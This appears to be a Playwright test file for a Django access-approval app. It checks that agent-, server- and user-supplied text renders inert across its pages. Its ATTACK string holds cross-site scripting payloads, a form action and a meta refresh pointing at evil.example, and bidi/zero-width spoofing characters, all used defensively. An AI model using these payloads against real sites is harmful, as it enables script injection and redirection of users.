"""What models, agents, servers and people write, in a real browser: shown whole, inert, and kept apart from our words."""

from __future__ import annotations

import pytest
from django.contrib.auth.models import Permission
from playwright.sync_api import Page, expect

from jitaccess.audit.sequencer import sequence
from jitaccess.catalog.models import AccessClass, Tool
from jitaccess.catalog.services import classify_tool, import_tools
from requests_app.services import Ask, ExactCall, comment_on_request, submit_request
from tests.cast import OPERATOR, TOOLS, Cast, definition
from tests.flows.conftest import Site

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
# Without the policy against inline script this would call alert, and be told.
ATTACK = (
    "</textarea></title><script>alert(7)</script><img src=x onerror=alert(7)><svg onload=alert(7)></svg>"
    "<a href='javascript:alert(7)'>Approve</a><button autofocus formaction=//evil.example>Approve</button>"
    "<style>*{display:none}</style><meta http-equiv=refresh content=0;//evil.example> "
    "@anna <!channel> [x](javascript:alert(7)) \u202eevorppA\u202c zero\u200bwidth \u2066isolate"
)
RTL = "הסוכן צריך לכתוב את הערות השחרור 👩🏽🚀 "
# What the text would have made of the page, had any of it been obeyed.
MADE = "img[src='x'], [onerror], [onload], [formaction*=evil], a[href^='javascript'], main style, main script, meta[http-equiv]"


@pytest.fixture
def attacked(cast: Cast) -> list[str]:
    """The addresses of the pages that show it."""
    offered = [definition(name, title=ATTACK, description=ATTACK) for name in (*TOOLS, "fresh")]
    import_tools(server=cast.server, definitions=offered, operator=OPERATOR)
    classify_tool(
        tool=Tool.objects.get(server=cast.server, name="git_commit"), access=AccessClass.WRITE, operator=OPERATOR
    )
    cast.server.description = cast.agent.description = ATTACK
    cast.server.save()
    cast.agent.save()
    cast.anna.user_permissions.add(Permission.objects.get(codename="view_entry"))
    ask = Ask(
        reason=ATTACK, ticket=ATTACK[:90], context={ATTACK[:60]: [ATTACK]},
        calls=[ExactCall("git", "git_commit", {"message": ATTACK})],
    )  # fmt: skip
    asked = submit_request(principal=cast.principal(client=ATTACK[:60]), ask=ask, snapshot=cast.snapshot()).request
    comment_on_request(request_id=asked.pk, author=cast.bert, text=ATTACK, channel="web")
    other = cast.submit(reason=ATTACK)
    cast.deny(other, cast.bert, reason=ATTACK)
    while sequence():
        pass
    shown = [f"/requests/{asked.pk}/", f"/requests/{other.pk}/", f"/activity/?request={asked.pk}"]
    return [*shown, "/", "/requests/", "/activity/", "/agents/demo-agent/", "/servers/", "/servers/git/", "/overview/"]


def test_nothing_that_is_shown_runs_or_leads_anywhere(site: Site, cast: Cast, attacked: list[str]) -> None:
    anna, admin = site.visit(cast.anna), site.visit(cast.admin)
    for path in attacked:
        for page in (anna, admin):
            page.goto(path)
            assert page.url == site.url + path
            ensure_untouched(page)
    anna.goto(attacked[0])
    expect(anna.locator("blockquote")).to_contain_text(r"\u{202e}evorppA\u{202c} zero\u{200b}width \u{2066}isolate")
    expect(anna.locator("blockquote")).to_contain_text("<script>alert(7)</script>")
    expect(anna.locator("pre.whole").first).to_contain_text(r"\u202eevorppA")
    assert site.complaints == []  # no dialog, and nothing for the policy to stop


def ensure_untouched(page: Page) -> None:
    assert page.locator(MADE).count() == 0, page.url
    expect(page.locator("h1")).to_be_visible()
    text = page.locator("main").inner_text()
    assert not set("\u202e\u202c\u200b\u2066") & set(text), page.url
    assert page.evaluate("document.activeElement === document.body"), page.url


def test_a_long_reason_from_right_to_left_is_shown_whole_and_turns_nothing_else_round(site: Site, cast: Cast) -> None:
    reason = (RTL * 60)[:1993] + "THE END"
    asked = cast.submit(reason=reason)
    for width in (1280, 390):
        page = site.visit(cast.anna, f"/requests/{asked.pk}/", viewport={"width": width, "height": 844})
        quote = page.locator("blockquote")
        said = quote.inner_text()
        assert said.endswith("THE END")
        assert said.count("👩🏽") == reason.count("👩🏽")
        assert quote.evaluate("one => getComputedStyle(one).direction") == "rtl"
        assert quote.evaluate("one => one.scrollHeight <= one.clientHeight && one.scrollWidth <= one.clientWidth")
        for other in ("body", "h1", ".decide", "#timeline"):
            assert page.locator(other).first.evaluate("one => getComputedStyle(one).direction") == "ltr"
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        expect(page.get_by_role("button", name="Approve for")).to_be_visible()
